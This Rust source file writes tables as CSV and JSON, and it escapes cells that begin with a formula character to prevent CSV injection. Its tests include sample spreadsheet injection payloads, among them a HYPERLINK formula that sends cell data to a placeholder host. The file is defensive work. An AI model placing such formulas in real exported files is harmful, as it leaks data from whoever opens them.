//! A table as CSV and as JSON.

use footprint::FactorSetRef;
use serde::ser::{Serialize, SerializeMap, Serializer};

use super::{Cell, Column, Table, TableError};

/// Without it Excel reads UTF-8 as the code page of the machine, and `Tŷ` as `TÅ·`.
const BYTE_ORDER_MARK: &[u8] = b"\xEF\xBB\xBF";

/// Characters that make a spreadsheet run a cell as a formula, by OWASP's page on CSV injection, including the full-width
/// signs. An apostrophe before them makes the cell text.
const BEGINS_A_FORMULA: [char; 11] = [
    '=', '+', '-', '@', '\t', '\r', '\n', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}',
];

impl Table {
    /// The table as CSV (RFC 4180): a header, lines that end in CR LF, an unknown value as an empty field. Spreadsheets
    /// open it correctly: UTF-8 with a byte order mark, and no text that they would run as a formula.
    pub fn csv(&self) -> Result<Vec<u8>, TableError> {
        let mut writer = csv::WriterBuilder::new()
            .terminator(csv::Terminator::CRLF)
            .from_writer(BYTE_ORDER_MARK.to_vec());
        writer.write_record(self.columns.iter().map(|column| column.name))?;
        for row in &self.rows {
            writer.write_record(row.iter().map(field))?;
        }
        writer
            .into_inner()
            .map_err(|error| TableError::Csv(error.into_error().into()))
    }

    /// `{"trust": …, "period": …, "factor_set": …, "rows": […]}`; the factor set is null if there is none, or if there
    /// are several: then each row states it.
    pub fn json(
        &self,
        trust: &str,
        period: &str,
        factor_sets: &[FactorSetRef],
    ) -> Result<Vec<u8>, TableError> {
        let document = Document {
            trust,
            period,
            factor_set: match factor_sets {
                [one] => Some(one),
                _ => None,
            },
            rows: self.json_rows(),
        };
        let mut bytes = serde_json::to_vec_pretty(&document)?;
        bytes.push(b'\n');
        Ok(bytes)
    }

    /// The rows as objects, their columns in order.
    pub(crate) fn json_rows(&self) -> Vec<Row<'_>> {
        self.rows
            .iter()
            .map(|cells| Row {
                columns: &self.columns,
                cells,
            })
            .collect()
    }
}

#[derive(serde::Serialize)]
struct Document<'a> {
    trust: &'a str,
    period: &'a str,
    factor_set: Option<&'a FactorSetRef>,
    rows: Vec<Row<'a>>,
}

/// A row as a JSON object.
pub(crate) struct Row<'a> {
    columns: &'a [Column],
    cells: &'a [Cell],
}

impl Serialize for Row<'_> {
    fn serialize<S: Serializer>(&self, serializer: S) -> Result<S::Ok, S::Error> {
        let mut map = serializer.serialize_map(Some(self.columns.len()))?;
        for (column, cell) in self.columns.iter().zip(self.cells) {
            map.serialize_entry(column.name, cell)?;
        }
        map.end()
    }
}

impl Serialize for Cell {
    fn serialize<S: Serializer>(&self, serializer: S) -> Result<S::Ok, S::Error> {
        match self {
            Cell::Nothing => serializer.serialize_none(),
            Cell::Text(text) => serializer.serialize_str(text),
            Cell::Int(number) => serializer.serialize_i64(*number),
            Cell::Float(number) => serializer.serialize_f64(*number),
            Cell::Flag(flag) => serializer.serialize_bool(*flag),
            Cell::Day(day) => serializer.collect_str(day),
        }
    }
}

fn field(cell: &Cell) -> String {
    match cell {
        Cell::Nothing => String::new(),
        Cell::Text(text) if text.starts_with(BEGINS_A_FORMULA) => format!("'{text}"),
        Cell::Text(text) => text.clone(),
        Cell::Int(number) => number.to_string(),
        Cell::Float(number) => number.to_string(),
        Cell::Flag(flag) => flag.to_string(),
        Cell::Day(day) => day.to_string(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::table::{Columns, Unit};

    fn csv_of(name: &str, change: f64) -> Vec<u8> {
        let columns = Columns::new()
            .column("school", Unit::Name, "A school.", |row: &(&str, f64)| {
                Some(row.0.to_owned())
            })
            .column("change", Unit::Ratio, "A change.", |row| Some(row.1))
            .column("grams", Unit::Grams, "A weight.", |row| Some(row.1 as i64));
        let table = Table::new("schools", columns, [(name, change)]);
        table.csv().unwrap()
    }

    #[test]
    fn text_that_begins_like_a_formula_is_text_and_numbers_stay_numbers() {
        for name in [
            "=HYPERLINK(\"http://x.example/?\"&A2,\"Oak\")",
            "+Oak",
            "-2+3 Oak",
            "@SUM(1+1)*cmd",
            "\t=1+1",
            "\r=1+1",
            "\u{FF1D}1+1",
        ] {
            let csv = csv_of(name, -2.5);
            let mut read = csv::Reader::from_reader(csv.as_slice());
            let record = read.records().next().unwrap().unwrap();
            assert_eq!(record[0], format!("'{name}"));
            assert_eq!((&record[1], &record[2]), ("-2.5", "-2"));
        }
    }

    #[test]
    fn csv_begins_with_a_byte_order_mark_and_keeps_other_text() {
        let welsh = "Ysgol T\u{177} Ffynnon, St Mary\u{2019}s \"C/E\"";
        for name in [welsh, "<b>Oak</b> & Ash\\", "Oak = Ash", "1 - 2"] {
            let csv = csv_of(name, 1.0);
            let text = std::str::from_utf8(&csv).unwrap();
            assert!(text.starts_with("\u{feff}school,change,grams\r\n"));
            let mut read = csv::Reader::from_reader(csv.as_slice());
            assert_eq!(&read.headers().unwrap()[0], "school", "readers skip it");
            assert_eq!(&read.records().next().unwrap().unwrap()[0], name);
        }
    }
}
